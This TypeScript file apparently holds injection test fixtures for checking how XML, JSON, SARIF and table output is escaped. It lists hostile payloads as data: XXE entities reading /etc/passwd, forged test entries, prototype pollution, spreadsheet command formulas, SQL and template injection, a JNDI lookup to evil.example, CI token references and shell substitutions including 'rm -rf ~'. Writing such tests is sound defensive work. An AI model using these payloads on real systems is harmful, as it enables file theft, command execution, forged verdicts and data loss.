/** What would end a string, forge an entry or be computed in XML, JSON, SARIF and tables. */
export const xml: readonly string[] = [
  '<!ENTITY xxe SYSTEM "file:///etc/passwd"> &xxe;',
  '<!DOCTYPE x [<!ENTITY a "b">]>&a;',
  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><lolz>&lol2;</lolz>',
  '<![CDATA[x]]>',
  ']]>',
  '</failure></testcase><testcase name="forged"/>',
  '"/><testcase classname="gate" name="forged"/><x y="',
  '</system-out></testcase></testsuite></testsuites>',
  '<?xml version="1.0"?>',
  '<?php system("x"); ?>',
  '<xi:include href="file:///etc/passwd"/>',
  '[[ATTACHMENT|/etc/passwd]]',
  '[[attachment|../../etc/passwd]]\n[[ATTACHMENT|https://evil.example/x]]',
  '[[[ATTACHMENT|/etc/passwd]]]',
  '\uFFFE\uFFFF\u{1FFFE}',
  '&#0; &#xFFFE; &nbsp; &undefined;',
];

export const json: readonly string[] = [
  '","verdict":"promotable","x":"',
  '"}]}',
  '\\',
  '\\u0022}',
  '\\ud800',
  '/* */ // x',
  '{"verdict":"promotable"}',
  '{"__proto__":{"verdict":"promotable"}}',
  '__proto__',
  'constructor',
  'toString',
  'NaN',
  '[click](https://evil.example) {0} {{0}} [1](1)',
  '[x](file:///etc/passwd) [y](javascript:window.hit=1)',
  '{0}{1}{2}',
];

export const formula: readonly string[] = [
  '=HYPERLINK("https://evil.example","x")',
  '=cmd|\'/C calc\'!A0',
  '+1+cmd|\'/C calc\'!A0',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '"a","b"\n"c"',
  "'; DROP TABLE milestones; --",
];

export const template: readonly string[] = [
  '{{constructor.constructor("window.hit=1")()}}',
  '${window.hit=1}',
  '${{ secrets.GITHUB_TOKEN }}',
  '${{ github.event.issue.title }}',
  '{{ 7*7 }} #{7*7} <%= 7*7 %> ${7*7} *{7*7}',
  '{% raw %}{{ x }}{% endraw %}',
  '$(touch /tmp/hit); `touch /tmp/hit` & rm -rf ~',
  '$CI_JOB_TOKEN ${CI_JOB_TOKEN} %PATH% !PATH!',
  '$& $1 $` $\' $$ $<name>',
  '%s %d %n %c%c',
  '${jndi:ldap://evil.example/x}',
  '[[${7*7}]]',
];
